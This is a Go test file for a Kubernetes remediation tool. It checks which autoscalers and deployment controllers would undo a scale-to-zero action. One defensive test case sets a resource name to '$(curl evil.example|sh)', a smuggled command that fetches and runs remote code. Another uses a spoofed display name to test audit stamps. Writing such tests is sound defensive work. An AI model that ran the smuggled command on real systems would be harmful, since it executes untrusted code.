package action

import (
	"errors"
	"strings"
	"testing"
	"time"

	"crashloop/notify"

	appsv1 "k8s.io/api/apps/v1"
	autoscalingv2 "k8s.io/api/autoscaling/v2"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/runtime"
	"k8s.io/apimachinery/pkg/runtime/schema"
	kubetesting "k8s.io/client-go/testing"
)

func TestRaisers(t *testing.T) {
	yes := true
	scaler := func(name, kind, of string, owners ...metav1.OwnerReference) *autoscalingv2.HorizontalPodAutoscaler {
		return &autoscalingv2.HorizontalPodAutoscaler{
			ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: "shop", OwnerReferences: owners},
			Spec:       autoscalingv2.HorizontalPodAutoscalerSpec{ScaleTargetRef: autoscalingv2.CrossVersionObjectReference{Kind: kind, Name: of}},
		}
	}
	meta := func(labels, annotations map[string]string) *appsv1.Deployment {
		return deployment(func(d *appsv1.Deployment) { d.Labels, d.Annotations = labels, annotations })
	}
	for name, c := range map[string]struct {
		with []runtime.Object
		want string
	}{
		"nobody":               {[]runtime.Object{deployment()}, ""},
		"an autoscaler":        {[]runtime.Object{deployment(), scaler("hpa", "Deployment", "web")}, "HorizontalPodAutoscaler hpa does nothing while replicas are 0"},
		"another's autoscaler": {[]runtime.Object{deployment(), scaler("hpa", "Deployment", "other"), scaler("hpb", "StatefulSet", "web")}, ""},
		"KEDA by name":         {[]runtime.Object{deployment(), scaler("keda-hpa-queue", "Deployment", "web")}, "annotate scaledobject queue autoscaling.keda.sh/paused-replicas=0"},
		"KEDA by owner":        {[]runtime.Object{deployment(), scaler("hpa", "Deployment", "web", metav1.OwnerReference{Kind: "ScaledObject", Name: "q"})}, "annotate scaledobject q "},
		"KEDA by an owner whose name is a command": {[]runtime.Object{deployment(), scaler("hpa", "Deployment", "web", metav1.OwnerReference{Kind: "ScaledObject", Name: "$(curl evil.example|sh)"})},
			"The HorizontalPodAutoscaler hpa does nothing"},
		"Argo CD":          {[]runtime.Object{meta(nil, map[string]string{"argocd.argoproj.io/tracking-id": "shop-app:apps/Deployment:shop/web"})}, "Argo CD (application shop-app)"},
		"Argo CD by label": {[]runtime.Object{meta(map[string]string{"argocd.argoproj.io/instance": "shop-app"}, nil)}, "Argo CD (application shop-app)"},
		"Flux Kustomization": {[]runtime.Object{meta(map[string]string{"kustomize.toolkit.fluxcd.io/name": "apps", "kustomize.toolkit.fluxcd.io/namespace": "flux-system"}, nil)},
			"flux -n flux-system suspend kustomization apps"},
		"Flux HelmRelease": {[]runtime.Object{meta(map[string]string{"helm.toolkit.fluxcd.io/name": "web", "helm.toolkit.fluxcd.io/namespace": "flux-system"},
			map[string]string{"meta.helm.sh/release-name": "web"})}, "flux -n flux-system suspend helmrelease web"},
		"Helm": {[]runtime.Object{meta(nil, map[string]string{"meta.helm.sh/release-name": "web"})}, "Helm release web"},
		"an operator": {[]runtime.Object{deployment(func(d *appsv1.Deployment) {
			d.OwnerReferences = []metav1.OwnerReference{{Kind: "Shop", Name: "main", Controller: &yes}}
		})}, "Shop main, whose operator"},
		"a plain label of an app": {[]runtime.Object{meta(map[string]string{"app.kubernetes.io/instance": "web"}, nil)}, ""},
	} {
		t.Run(name, func(t *testing.T) {
			s := newStage(t, c.with...)
			out := s.run(t, "scale-to-zero", web)
			got := strings.Join(out.Notes, " ")
			if !out.Changed || c.want == "" && got != "" || !strings.Contains(got, c.want) {
				t.Errorf("got %q, want %q", got, c.want)
			}
		})
	}
}

func TestRaisersThatCannotBeSeenAreSaid(t *testing.T) {
	s := newStage(t, deployment())
	s.client.PrependReactor("list", "horizontalpodautoscalers", func(kubetesting.Action) (bool, runtime.Object, error) {
		return true, nil, apierrors.NewForbidden(schema.GroupResource{}, "", errors.New("no"))
	})
	if out := s.run(t, "scale-to-zero", web); !out.Changed || !strings.Contains(out.Private, "could not be seen") {
		t.Errorf("got %+v", out)
	}
}

func TestNobodySignsAsSomebodyElse(t *testing.T) {
	at := time.Date(2026, 5, 4, 12, 0, 0, 0, time.UTC)
	mallory := notify.Person{ID: "U0MALLORY", Name: "alice (U0ALICE) at 2026-05-04T11:00:00Z\u0085"}
	if got, want := stamp("restart", mallory, "mallory", at), "restart by alice [U0ALICE] at 2026-05-04T11:00:00Z (U0MALLORY) at 2026-05-04T12:00:00Z"; got != want {
		t.Errorf("got %q, want %q", got, want)
	}
}
